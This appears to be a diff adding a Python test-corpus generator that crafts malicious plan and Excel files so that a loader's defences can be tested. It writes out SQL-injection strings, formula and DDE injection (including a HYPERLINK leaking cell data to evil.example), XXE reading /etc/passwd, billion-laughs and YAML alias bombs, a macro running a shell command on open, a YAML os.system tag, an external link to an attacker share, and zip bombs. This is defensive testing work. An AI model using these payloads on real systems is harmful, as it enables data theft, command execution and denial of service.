@@ -1,0 +1,285 @@
+"""Hostile input files for the plan loader and the Excel upload: `python -m tests.corpus.make_corpus`
+writes the small ones into this folder; tests build the big ones (zip bombs, 10,000-row uploads) in a
+temporary folder with the same functions, so the repository stays small.
+
+Every file is crafted from a real plan (tests.factories) or a real workbook, then broken in one way,
+so that a refusal shows the defence that caught it and not an earlier, unrelated check.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import yaml
+
+from plan.io import plan_document
+from plan.workbook import write_plan_workbook
+from tests.factories import make_plan
+
+HERE = Path(__file__).resolve().parent
+SQL = "'; DROP TABLE status_revision; --"
+SQL_CODE = "';DROP TABLE axis--"  # fits the 20 characters of a code
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1,2)")
+BILLION_LAUGHS = (
+    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + "".join(
+        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)
+    )
+    + "]>"
+)
+EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+# ---- zip surgery --------------------------------------------------------------------------
+
+
+def rezip(
+    data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
+) -> bytes:
+    """The same archive with some members replaced or added."""
+    replace, add = replace or {}, add or {}
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(data)) as source,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out,
+    ):
+        for info in source.infolist():
+            out.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
+        for name, content in add.items():
+            out.writestr(name, content)
+    return buffer.getvalue()
+
+
+def member(data: bytes, name: str) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read(name)
+
+
+def edit_member(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
+    return rezip(data, replace={name: change(member(data, name))})
+
+
+def with_doctype(xml: bytes, doctype: str, reference: str) -> bytes:
+    """The part with a DOCTYPE before its root element and the entity used in its first text."""
+    text = xml.decode("utf-8")
+    text = re.sub(r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + doctype, text, count=1)
+    return text.replace("<t>", f"<t>{reference}", 1).encode("utf-8")
+
+
+def with_macro(data: bytes) -> bytes:
+    """A macro-enabled workbook (vbaProject.bin and the .xlsm content type) renamed .xlsx."""
+    types = member(data, "[Content_Types].xml").replace(SHEET_TYPE.encode(), MACRO_TYPE.encode())
+    types = types.replace(
+        b"</Types>",
+        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject" /></Types>',
+    )
+    rels = member(data, "xl/_rels/workbook.xml.rels").replace(
+        b"</Relationships>",
+        b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        b'Target="vbaProject.bin" Id="rIdVba" /></Relationships>',
+    )
+    vba = (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n'
+    )
+    vba += b'Shell "cmd /C calc"\r\nEnd Sub\r\n'
+    return rezip(
+        data,
+        replace={"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
+        add={"xl/vbaProject.bin": vba},
+    )
+
+
+def with_external_link(data: bytes) -> bytes:
+    """A workbook that links to another file on a remote share (Excel would fetch it on open)."""
+    link = (
+        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        f'xmlns:r="{REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="x"/></sheetNames>'
+        "</externalBook></externalLink>"
+    )
+    link_rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" '
+        'Target="file:///\\\\attacker.example\\share\\steal.xlsx" TargetMode="External"/></Relationships>'
+    )
+    types = member(data, "[Content_Types].xml").replace(
+        b"</Types>",
+        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml" /></Types>',
+    )
+    rels = member(data, "xl/_rels/workbook.xml.rels").replace(
+        b"</Relationships>",
+        f'<Relationship Type="{REL}/externalLink" Target="externalLinks/externalLink1.xml" '
+        'Id="rIdLink" /></Relationships>'.encode(),
+    )
+    workbook = member(data, "xl/workbook.xml").replace(
+        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdLink"/></externalReferences>'
+    )
+    return rezip(
+        data,
+        replace={
+            "[Content_Types].xml": types,
+            "xl/_rels/workbook.xml.rels": rels,
+            "xl/workbook.xml": workbook,
+        },
+        add={
+            "xl/externalLinks/externalLink1.xml": link.encode(),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode(),
+        },
+    )
+
+
+def with_formulas(data: bytes, sheet_part: str, formulas: tuple[str, ...] = FORMULAS) -> bytes:
+    """Four text cells of the first data row turned into formulas (a link, a DDE command, +SUM, @SUM),
+    stored as Excel stores them."""
+
+    def change(xml: bytes) -> bytes:
+        text = xml.decode("utf-8")
+        head, row = text.split('<row r="2"', 1)
+        chosen = iter(formulas)
+        row = re.sub(
+            r' t="inlineStr"><is><t>[^<]*</t></is>',
+            lambda _: f"><f>{_escape(next(chosen).lstrip('='))}</f><v>0</v>",
+            row,
+            count=len(formulas),
+        )
+        return (head + '<row r="2"' + row).encode("utf-8")
+
+    return edit_member(data, sheet_part, change)
+
+
+def _escape(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
+
+
+def zip_bomb(path: Path, *, inflated_mb: int = 210, name: str = "[Content_Types].xml") -> Path:
+    """A small zip whose one member inflates to `inflated_mb` MB of spaces."""
+    chunk = b" " * (1024 * 1024)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        with archive.open(name, "w", force_zip64=True) as out:
+            for _ in range(inflated_mb):
+                out.write(chunk)
+    return path
+
+
+def lying_zip_bomb(data: bytes) -> bytes:
+    """A bomb that declares its member tiny: the sizes in both headers say 1 KB."""
+    patched = bytearray(data)
+    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
+        start = patched.find(signature)
+        if start >= 0 and patched[start + offset : start + offset + 4] != b"\xff\xff\xff\xff":
+            patched[start + offset : start + offset + 4] = (1024).to_bytes(4, "little")
+    return bytes(patched)
+
+
+# ---- plan files ---------------------------------------------------------------------------
+
+
+def plan_workbook() -> bytes:
+    buffer = io.BytesIO()
+    write_plan_workbook(make_plan(), buffer)
+    return buffer.getvalue()
+
+
+def sql_plan_document() -> dict:
+    """A valid plan with SQL metacharacters in every text field (and in codes where they fit)."""
+    document = plan_document(make_plan())
+    _replace_text(document)
+    renames = {"MAI": SQL, "E1": SQL_CODE}
+    return _rename(document, renames)
+
+
+def _replace_text(value: object, key: str = "") -> None:
+    if isinstance(value, dict):
+        for name, item in value.items():
+            if name in ("pt", "en", "legal_basis", "provenance", "source", "unit"):
+                value[name] = f"{item} {SQL}"
+            else:
+                _replace_text(item, name)
+    elif isinstance(value, list):
+        for item in value:
+            _replace_text(item, key)
+
+
+def _rename(value: object, renames: dict[str, str]) -> object:
+    if isinstance(value, dict):
+        return {k: _rename(v, renames) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_rename(v, renames) for v in value]
+    return renames.get(value, value) if isinstance(value, str) else value
+
+
+def alias_bomb() -> str:
+    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    for n in range(2, 10):
+        previous = chr(ord("a") + n - 2)
+        this = chr(ord("a") + n - 1)
+        lines.append(f"{this}: &{this} [{', '.join([f'*{previous}'] * 9)}]")
+    lines.append("plan: {code: *i, country: *i, title: {pt: *i, en: *i}}")
+    lines.append("bodies: [*i, *i]\naxes: *i\nobjectives: *i\nmeasures: *i")
+    return "\n".join(lines) + "\n"
+
+
+def plan_files() -> dict[str, bytes]:
+    """The small plan files, by name."""
+    valid = plan_document(make_plan())
+    sql = sql_plan_document()
+    titled = json.loads(json.dumps(valid, default=str))
+    depth = 5000
+    workbook = plan_workbook()
+    return {
+        "plan_sql_metacharacters.yaml": yaml.safe_dump(sql, allow_unicode=True, sort_keys=False).encode(),
+        "plan_sql_metacharacters.json": json.dumps(sql, default=str, indent=1).encode(),
+        "plan_yaml_alias_bomb.yaml": alias_bomb().encode(),
+        "plan_deeply_nested_list.yaml": b"plan: " + b"[" * depth + b"]" * depth + b"\n",
+        "plan_deeply_nested_mapping.yaml": b"plan: " + b"{a: " * depth + b"1" + b"}" * depth + b"\n",
+        "plan_deeply_nested.json": b'{"plan": ' + b'{"a": ' * depth + b"1" + b"}" * depth + b"}",
+        "plan_python_object_tag.yaml": b'plan: !!python/object/apply:os.system ["echo pwned"]\n',
+        "plan_nul_byte.yaml": b"plan:\n  code: TE\x00ST\n",
+        "plan_nul_escaped.json": _with_title(titled, "Plano\u0000oculto"),
+        "plan_control_character.json": _with_title(titled, "Plano \u0007\u001b[31m vermelho"),
+        "plan_lone_surrogate.json": _with_title(titled, "Plano \ud800"),
+        "plan_invalid_utf8.yaml": b'plan:\n  code: TEST\n  title: {pt: "\xff\xfe\xc3\x28", en: x}\n',
+        "plan_utf16.yaml": yaml.safe_dump(valid, allow_unicode=True).encode("utf-16"),
+        "plan_wrong_types.yaml": b"plan: [1, 2]\nbodies: {a: b}\naxes: 7\nobjectives: null\nmeasures: 'x'\n",
+        "plan_list_document.json": b"[1, 2, 3]",
+        "plan_formulas.xlsx": with_formulas(workbook, "xl/worksheets/sheet5.xml"),
+        "plan_macro.xlsx": with_macro(workbook),
+        "plan_external_link.xlsx": with_external_link(workbook),
+        "plan_billion_laughs.xlsx": edit_member(
+            workbook, "xl/worksheets/sheet2.xml", lambda x: with_doctype(x, BILLION_LAUGHS, "&lol9;")
+        ),
+        "plan_external_entity.xlsx": edit_member(
+            workbook, "xl/worksheets/sheet5.xml", lambda x: with_doctype(x, EXTERNAL_ENTITY, "&xxe;")
+        ),
+        "plan_external_entity_workbook_part.xlsx": edit_member(
+            workbook, "xl/workbook.xml", lambda x: with_doctype(x, EXTERNAL_ENTITY, "")
+        ),
+        "plan_invalid_xml_sheet.xlsx": edit_member(
+            workbook, "xl/worksheets/sheet3.xml", lambda x: x.replace(b"<t>", b"<t>\xff\x00", 1)
+        ),
+        "not_a_zip.xlsx": b"This is a text file renamed .xlsx\n",
+        "truncated.xlsx": workbook[: len(workbook) // 2],
+    }
+
+
+def _with_title(document: dict, title: str) -> bytes:
+    changed = json.loads(json.dumps(document))
+    changed["plan"]["title"]["pt"] = title
+    return json.dumps(changed).encode()  # ASCII escapes: the file itself is clean UTF-8
+
+
+def main() -> None:
+    for name, data in plan_files().items():
+        (HERE / name).write_bytes(data)
+
+
+if __name__ == "__main__":
+    main()
